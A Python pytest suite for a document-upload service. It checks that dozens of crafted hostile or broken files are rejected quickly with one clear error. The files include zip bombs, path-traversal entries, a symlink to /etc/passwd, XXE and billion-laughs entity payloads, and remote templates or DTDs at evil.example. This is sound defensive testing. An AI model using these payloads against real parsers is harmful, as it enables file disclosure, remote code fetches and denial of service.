"""Hostile and broken files: each gets one clear error, quickly, and nothing of it is executed, fetched or unpacked."""

import io
import struct
import time
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from docx import Document

from service.documents.errors import (
    BrokenDocument,
    DocumentEncoding,
    DocumentError,
    DocumentTooLarge,
    UnsafeDocument,
    UnsupportedDocument,
)
from service.documents.format import MIB, Limits
from tests.support.documents import ODT_TEXT, packed, through

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SMALL = Limits(file_bytes=MIB, unpacked_bytes=8 * MIB, characters=10_000, segments=500, entries=200)
Changes = dict[str, bytes | None]


def docx(changes: Changes | None = None, edit: Callable[[dict[str, bytes]], None] = lambda _files: None) -> bytes:
    """Return a Word document with some of its files replaced, or removed."""
    out = io.BytesIO()
    document = Document()
    document.add_paragraph("Some words.")
    document.save(out)
    with zipfile.ZipFile(out) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    for name, content in (changes or {}).items():
        files.pop(name, None)
        if content is not None:
            files[name] = content
    edit(files)
    return packed(files)


def body(text: str, prolog: str = "") -> Changes:
    return {"word/document.xml": f"{prolog}<w:document {W}><w:body>{text}</w:body></w:document>".encode()}


def replaced(name: str, old: bytes, new: bytes) -> Callable[[dict[str, bytes]], None]:
    def edit(files: dict[str, bytes]) -> None:
        assert old in files[name]
        files[name] = files[name].replace(old, new)

    return edit


def relation(kind: str, target: str) -> bytes:
    schema = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{schema}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def encrypted(data: bytes) -> bytes:
    """Return a zip file whose entries claim to be encrypted."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        places = [info.header_offset for info in archive.infolist()]
    raw = bytearray(data)
    for place in places:
        raw[place + 6] |= 1
    at = raw.find(b"PK\x01\x02")
    while at >= 0:
        raw[at + 8] |= 1
        at = raw.find(b"PK\x01\x02", at + 4)
    return bytes(raw)


def lying_sizes(data: bytes) -> bytes:
    """Return a zip file whose directory says that every file is one byte long."""
    raw = bytearray(data)
    at = raw.find(b"PK\x01\x02")
    while at >= 0:
        raw[at + 24 : at + 28] = struct.pack("<I", 1)
        at = raw.find(b"PK\x01\x02", at + 4)
    return bytes(raw)


def link() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("word/media/x.png")
        info.create_system = 3
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def twice() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("WORD/document.xml", b"<other/>")
    return out.getvalue()


LAUGHS = '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
ODT = {"mimetype": b"application/vnd.oasis.opendocument.text"}
EPUB = {
    "mimetype": b"application/epub+zip",
    "META-INF/container.xml": b'<container xmlns="c"><rootfile full-path="a.opf"/></container>',
    "a.opf": b'<package xmlns="p"><item href="a.xhtml" media-type="application/xhtml+xml"/></package>',
    "a.xhtml": b"<html><p>Words.</p></html>",
}


def odt(content: bytes, files: dict[str, bytes] | None = None) -> bytes:
    return packed({**ODT, "content.xml": content, **(files or {})})


def book(files: dict[str, bytes]) -> bytes:
    return packed({**EPUB, **files})


DRM = b'<encryption xmlns="e"><EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/></encryption>'
DEEP = "<w:p>" + "<w:smartTag>" * 5000 + "<w:r><w:t>x</w:t></w:r>" + "</w:smartTag>" * 5000 + "</w:p>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
CUE = "00:00:01,000 --> 00:00:02,000"
MACROS = replaced(
    "[Content_Types].xml", b"wordprocessingml.document.main+xml", b"wordprocessingml.macroEnabled.main+xml"
)

HOSTILE: dict[str, tuple[str, Callable[[], bytes], type[Exception], str]] = {
    "zip bomb": ("a.docx", lambda: docx({"word/media/a.bin": bytes(7 * MIB)}), UnsafeDocument, "bomb"),
    "many zip bombs": (
        "a.docx",
        lambda: docx({f"word/media/{number}.bin": bytes(3 * MIB) for number in range(5)}),
        DocumentTooLarge,
        "unpacked",
    ),
    "zip bomb that lies about its size": (
        "a.docx",
        lambda: lying_sizes(docx({"word/media/a.bin": bytes(6 * MIB)})),
        DocumentError,
        "damaged|bomb",
    ),
    "too many files": (
        "a.docx",
        lambda: docx({f"word/media/{number}": b"" for number in range(300)}),
        UnsafeDocument,
        "files packed",
    ),
    "path that climbs": ("a.docx", lambda: docx({"../../etc/cron.d/x": b"x"}), UnsafeDocument, "leads out"),
    "absolute path": ("a.docx", lambda: docx({"/etc/x": b"x"}), UnsafeDocument, "leads out"),
    "path of Windows": ("a.docx", lambda: docx({"..\\..\\x": b"x"}), UnsafeDocument, "leads out"),
    "drive of Windows": ("a.odt", lambda: packed({**ODT, "C:/x": b"x"}), UnsafeDocument, "leads out"),
    "link": ("a.docx", link, UnsafeDocument, "link"),
    "two files of one name": ("a.docx", twice, UnsafeDocument, "one name"),
    "password in the zip": ("a.docx", lambda: encrypted(docx()), UnsafeDocument, "encrypted"),
    "old binary format": ("a.docx", lambda: OLE, UnsafeDocument, "old binary"),
    "macros by type": ("a.docx", lambda: docx(edit=MACROS), UnsafeDocument, "macros"),
    "macros by file": ("a.docx", lambda: docx({"word/vbaProject.bin": b"x"}), UnsafeDocument, "macros"),
    "macros by name": ("a.docm", docx, UnsupportedDocument, "macros"),
    "controls": ("a.docx", lambda: docx({"word/activeX/activeX1.xml": b"<x/>"}), UnsafeDocument, "controls"),
    "signed": ("a.docx", lambda: docx({"_xmlsignatures/sig1.xml": b"<x/>"}), UnsafeDocument, "signed"),
    "template from elsewhere": (
        "a.docx",
        lambda: docx({"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://evil.example/t.dotm")}),
        UnsafeDocument,
        "template",
    ),
    "object from elsewhere": (
        "a.docx",
        lambda: docx({"word/_rels/document.xml.rels": relation("oleObject", "file://server/x")}),
        UnsafeDocument,
        "elsewhere",
    ),
    "entities": (
        "a.docx",
        lambda: docx(body("<w:p><w:r><w:t>&b;</w:t></w:r></w:p>", LAUGHS)),
        UnsafeDocument,
        "entities",
    ),
    "external entity": ("a.docx", lambda: docx(body("<w:p/>", OUTSIDE)), UnsafeDocument, "entities"),
    "entities in UTF-16": (
        "a.docx",
        lambda: docx({"word/document.xml": ("\ufeff" + LAUGHS + "<x/>").encode("utf-16-le")}),
        UnsafeDocument,
        "entities",
    ),
    "elements in elements": ("a.docx", lambda: docx(body(DEEP)), DocumentError, "deep|well-formed"),
    "XML that breaks off": ("a.docx", lambda: docx({"word/document.xml": b"<w:document"}), BrokenDocument, "XML"),
    "no content types": ("a.docx", lambda: docx({"[Content_Types].xml": None}), BrokenDocument, "content types"),
    "no zip": ("a.docx", lambda: b"PK\x03\x04 and nothing", BrokenDocument, "damaged"),
    "half a zip": ("a.docx", lambda: docx()[:-200], BrokenDocument, "damaged"),
    "a docx that is called pptx": ("a.pptx", docx, BrokenDocument, "kind"),
    "a docx that is called odt": ("a.odt", docx, BrokenDocument, "OpenDocument"),
    "macros in odt": ("a.odt", lambda: odt(b"<x/>", {"Basic/x.xml": b"<x/>"}), UnsafeDocument, "macros"),
    "scripts in odt": (
        "a.odt",
        lambda: packed({**ODT, "content.xml": (ODT_TEXT % "<office:script/>").encode()}),
        UnsafeDocument,
        "scripts",
    ),
    "section from elsewhere in odt": (
        "a.odt",
        lambda: packed(
            {**ODT, "content.xml": (ODT_TEXT % '<text:section-source xlink:href="http://evil.example/"/>').encode()}
        ),
        UnsafeDocument,
        "elsewhere",
    ),
    "encrypted odt": (
        "a.odt",
        lambda: packed({**ODT, "content.xml": b"x", "META-INF/manifest.xml": b"<m:encryption-data/>"}),
        UnsafeDocument,
        "encrypted",
    ),
    "entities in odt": ("a.odt", lambda: odt((LAUGHS + "<x/>").encode()), UnsafeDocument, "entities"),
    "protected book": ("a.epub", lambda: book({"META-INF/encryption.xml": DRM}), UnsafeDocument, "protected"),
    "book without pages": ("a.epub", lambda: book({"META-INF/container.xml": b"<c/>"}), BrokenDocument, "its pages"),
    "entities in a book": (
        "a.epub",
        lambda: packed({**EPUB, "a.xhtml": b'<!DOCTYPE html [<!ENTITY x "y">]><html><p>&x;</p></html>'}),
        UnsafeDocument,
        "entities",
    ),
    "entities in xliff": ("a.xlf", lambda: (LAUGHS + "<xliff/>").encode(), UnsafeDocument, "document type"),
    "external document type in xliff": (
        "a.xlf",
        lambda: b'<!DOCTYPE xliff SYSTEM "http://evil.example/x.dtd"><xliff/>',
        UnsafeDocument,
        "document type",
    ),
    "no xliff": ("a.xlf", lambda: b"<html/>", BrokenDocument, "not XLIFF"),
    "broken catalogue": ("a.po", lambda: b'msgid "a"\nmsgstr "b" c\n', BrokenDocument, "syntax error"),
    "path in place of a catalogue": ("a.po", lambda: b"/etc/passwd", BrokenDocument, "no msgid"),
    "binary text": ("a.txt", lambda: bytes(range(256)), DocumentEncoding, "UTF-8"),
    "executable that is called txt": ("a.txt", lambda: b"MZ\0\0", BrokenDocument, "zero bytes"),
    "wrong encoding": ("a.srt", lambda: f"1\n{CUE}\ncafé".encode("latin-1"), DocumentEncoding, "UTF-8"),
    "codec that is none": ("a.html", lambda: b'<meta charset="zlib_codec"><p>x', DocumentEncoding, "not accepted"),
    "broken table": ("a.csv", lambda: b'a,"b\n', BrokenDocument, "quote"),
    "executable": ("a.exe", lambda: b"MZ", UnsupportedDocument, "not supported"),
    "no extension": ("passwd", lambda: b"root", UnsupportedDocument, "not supported"),
    "too many segments": ("a.txt", lambda: b"word\n" * 600, DocumentTooLarge, "paragraphs"),
    "too much text": ("a.txt", lambda: b"word " * 3000, DocumentTooLarge, "characters"),
}


def test_there_are_at_least_thirty_of_them() -> None:
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_file_is_refused_with_one_clear_sentence(kind: str) -> None:
    name, make, error, words = HOSTILE[kind]
    data = make()
    began = time.monotonic()
    with pytest.raises(error, match=words) as raised:
        through(name, data, limits=SMALL)
    assert time.monotonic() - began < 20
    found: Any = raised.value
    assert found.code
    assert len(found.message) < 200
    assert found.message.endswith(".")


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.md", b"[" * 20_000),
        ("a.md", b"*a " * 3_000),
        ("a.md", b"> " * 2_000 + b"x"),
        ("a.html", b"<b>" * 20_000 + b"x"),
        ("a.html", b"<" * 50_000),
        ("a.srt", b"1\n00:00:01,000 --> 00:00:02,000\n" + b"<i>" * 3_000 + b"x\n"),
        ("a.srt", b"1\n00:00:01,000 --> 00:00:02,000\n" + b"<i>" * 900 + b"x" + b"</i>" * 900 + b"\n"),
        ("a.csv", b"," * 50_000),
        ("a.po", b'msgid "' + b"%" * 5_000 + b'a"\nmsgstr ""\n'),
        ("a.po", b'msgid "' + b"{" * 5_000 + b'a"\nmsgstr ""\n'),
        ("a.txt", b"a" * 9_000),
    ],
)
def test_text_that_is_made_to_be_slow_is_not(name: str, data: bytes) -> None:
    began = time.monotonic()
    try:
        through(name, data, limits=SMALL)
    except DocumentError as error:
        assert error.message  # noqa: PT017 - refusal is as good as success
    assert time.monotonic() - began < 20


def test_a_link_to_a_page_elsewhere_is_no_attack() -> None:
    data = docx({"word/_rels/document.xml.rels": relation("hyperlink", "https://example.org")})
    assert through("a.docx", data)
